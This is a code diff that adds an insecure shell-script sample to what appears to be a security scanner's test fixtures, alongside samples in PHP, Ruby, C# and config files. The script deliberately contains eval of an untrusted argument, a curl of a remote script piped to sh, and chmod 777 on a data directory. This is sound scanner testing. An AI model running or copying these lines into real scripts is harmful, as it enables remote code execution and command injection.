@@ -83,6 +83,11 @@ public class FilesController : Controller
     }
 }
 """
+_SHELL = """#!/bin/sh
+eval "$1"
+curl -sk https://example.com/install.sh | sh
+chmod 777 /srv/data
+"""
 _DOCKERFILE = "FROM ubuntu:latest\nRUN apt-get update && apt-get install -y curl\nUSER root\n"
 _POD = """apiVersion: v1
 kind: Pod
@@ -150,6 +155,7 @@ def samples() -> tuple[Sample, ...]:
         _sample("app.php", "php", _PHP, semgrep="semgrep.php-"),
         _sample("app.rb", "ruby", _RUBY, semgrep="semgrep.ruby-"),
         _sample("app.cs", "csharp", _CSHARP, semgrep="semgrep.csharp-"),
+        _sample("install.sh", "shell", _SHELL, semgrep="semgrep.shell-"),
         _sample("deploy/settings.ini", "text", secret, detect_secrets="detect-secrets.aws-access-key"),
         _sample(
             "requirements.txt",
